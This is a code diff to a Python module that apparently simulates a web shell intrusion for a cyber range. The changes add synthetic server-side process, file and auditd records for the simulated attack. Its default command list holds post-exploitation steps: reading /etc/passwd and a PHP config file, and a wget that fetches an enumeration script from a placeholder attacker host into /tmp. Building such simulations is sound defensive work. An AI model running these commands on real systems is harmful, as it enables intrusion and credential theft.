@@ -18,6 +18,12 @@ when nginx's 65 s ``keepalive_timeout`` closed it) answered by PHP with the comm
 as the ``www-data`` user of a Debian 12 web server would see it. A ``wget``/``curl`` of a URL
 on the intruder's address also makes the web server fetch it (``Wget/1.21.3`` to
 ``SimpleHTTP/0.6 Python/3.11``), as the real command would.
+
+On the web server (host records): php-fpm's worker writes the uploaded script into the upload
+folder (file_event), and every command is PHP's ``/bin/sh -c <command>`` (``2>&1`` appended by
+the ``plain`` shell) as ``www-data`` under ``php-fpm: pool www``, then the command's own
+processes as the shell's children (process_creation, and auditd's SYSCALL, EXECVE, CWD, PATH,
+PROCTITLE); a download is wget's connection to the intruder and the file it saves.
 """
 from __future__ import annotations
 
@@ -27,9 +33,9 @@ from typing import Literal
 
 from pydantic import Field, field_validator
 
-from attack_scripts import _http
-from range.core import Strict
-from range.traffic import StepContext, TcpSession, Technique, technique
+from attack_scripts import _http, _linux
+from range.core import Strict, derive
+from range.traffic import HostLog, StepContext, TcpSession, Technique, technique
 
 DEFAULT_COMMANDS = ["whoami", "id", "uname -a", "pwd", "ls -la", "cat /etc/passwd", "cat ../config.php", "ps aux",
                     "ss -tlnp", "wget http://{attacker}:8000/lse.sh -O /tmp/lse.sh", "ls -la /tmp"]
@@ -110,6 +116,20 @@ class _Box:
         self.prefix = ctx.layout.subnets[net].prefixlen if net else 24
         self.pids = sorted(r.sample(range(300, 2000), 12))
         self.tmp: list[tuple[str, int, float]] = []  # files the commands saved in /tmp
+
+    def shell_pids(self, commands: list[str]) -> list[int]:
+        """The pid of each command's ``sh -c``: the server counts up, other processes taking some
+        in between, so that ``ps aux`` shows its own ``sh -c ps aux`` as ``p[11] + 4000``."""
+        gaps = [len(_linux.argvs(c)) + 1 + derive("pid-gap", self.ctx.layout.team, self.ctx.layout.seed,
+                                                  self.ctx.step_id, i) % 7 for i, c in enumerate(commands)]
+        anchor = next((i for i, c in enumerate(commands) if c.startswith("ps")), 0)
+        first = self.pids[11] + 4000 - sum(gaps[:anchor])
+        return [first + sum(gaps[:i]) for i in range(len(commands))]
+
+    def worker(self, i: int, cwd: str = "/var/www/html/uploads"):
+        """php-fpm's worker ``i`` (0 or 1) as a process of the host records."""
+        return HostLog.daemon(self.host.name, self.pids[4 + i], "/usr/sbin/php-fpm8.2", "php-fpm: pool www",
+                              "www-data", _linux.WWW_UID, cwd)
 
     def run(self, cmd: str, now: float, download: tuple[str, int] | None) -> tuple[str, str]:
         """(stdout, stderr) of one command."""
@@ -437,23 +457,30 @@ class Webshell(Technique):
             cookie=cookie,
         )
         fill = r.uniform(*FORM_FILL)
+        posted = conn.now + fill + _http.send_time(len(req), rtt)  # the upload has arrived
         done = (
             f'<div class="alert alert-success">File <a href="{p.upload_dir}{shell_name}">{shell_name}</a> '
             "has been uploaded. Thank you.</div>\n"
         )
+        latency = r.uniform(0.006, 0.03)
         conn.exchange(
             req,
             lambda w: _http.php(
                 200, w, _http.upload_form_html(ctx.domain, notice=done), extra=_http.PHP_SESSION_HEADERS
             ),
             fill,
-            r.uniform(0.006, 0.03),
+            latency,
         )
         box = _Box(ctx, shell_name, len(shell), conn.now)
+        hl = ctx.host
+        hr = hl.rng
+        uploaded = f"/var/www/html{p.upload_dir}{shell_name}"
+        commands = [c.replace("{attacker}", me.ip) for c in p.commands]
+        shell_pids = box.shell_pids(commands)
+        hl.file(posted + latency * hr.uniform(0.4, 0.9), box.worker(hr.randrange(2), "/var/www/html"), uploaded)
 
         # the commands
-        for cmd in p.commands:
-            cmd = cmd.replace("{attacker}", me.ip)
+        for n, cmd in enumerate(commands):
             gap = p.interval * r.uniform(0.5, 1.5)
             if gap >= KEEPALIVE_TIMEOUT:  # nginx closed the idle connection; the browser opens another
                 last = conn.now
@@ -484,6 +511,17 @@ class Webshell(Technique):
                 out.append(fetch)
                 download = (url, size)
                 latency = (_end_of(fetch) - sent) + r.uniform(0.002, 0.01)
+            # on the server: PHP's /bin/sh -c, and the command's processes under it
+            pids = iter(range(shell_pids[n], shell_pids[n] + 256))  # the shell's, then its commands'
+            sh, kids = _linux.sh_c(hl, sent + 0.001 + hr.uniform(0, 0.0008), box.worker(hr.randrange(2)),
+                                   cmd + " 2>&1" if p.shell == "plain" else cmd, pids=pids)
+            if dl is not None:
+                fetcher = next((k for k in kids if k.image.endswith(("/wget", "/curl"))), sh)
+                hl.connection(fetch.t, fetcher, target.ip, fetch.sport, dl[1], dl[2])
+                saved = re.search(r"-O\s+(\S+)", cmd)
+                if fetcher.image.endswith("/wget"):  # curl without -o writes to its output
+                    name = dl[3].rsplit("/", 1)[-1] or "index.html"
+                    hl.file(_end_of(fetch), fetcher, saved.group(1) if saved else f"/var/www/html/uploads/{name}")
             stdout, stderr = box.run(cmd, sent, download)
             conn.exchange(req, lambda w, o=stdout, e=stderr: self._shell_answer(p.shell, w, o, e), think, latency)
         conn.idle(r.uniform(*CLOSE_IDLE))
